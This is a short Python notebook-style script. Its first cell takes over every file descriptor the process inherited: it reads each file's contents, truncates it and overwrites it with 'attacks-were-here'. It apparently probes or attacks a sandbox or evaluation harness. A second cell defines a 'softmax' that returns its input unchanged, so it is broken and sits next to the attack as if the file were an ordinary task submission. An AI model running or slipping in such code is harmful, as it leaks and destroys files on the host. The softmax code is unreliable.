"""Reads and writes every file descriptor that it inherited, by number and by /proc/self/fd, and
those that sockets can be asked for.
"""

# %%
import os
import stat

for descriptor in range(256):
    try:
        target = os.readlink(f"/proc/self/fd/{descriptor}")
        kind = os.fstat(descriptor).st_mode
    except OSError:
        continue
    if stat.S_ISREG(kind) or stat.S_ISDIR(kind) or stat.S_ISBLK(kind):
        print("INHERITED", descriptor, target)
        try:
            os.lseek(descriptor, 0, 0)
            print(os.read(descriptor, 10_000))
            os.ftruncate(descriptor, 0)
            os.write(descriptor, b"attacks-were-here")
        except OSError as error:
            print(error)


# %% softmax
def softmax(scores, axis=-1):
    return scores
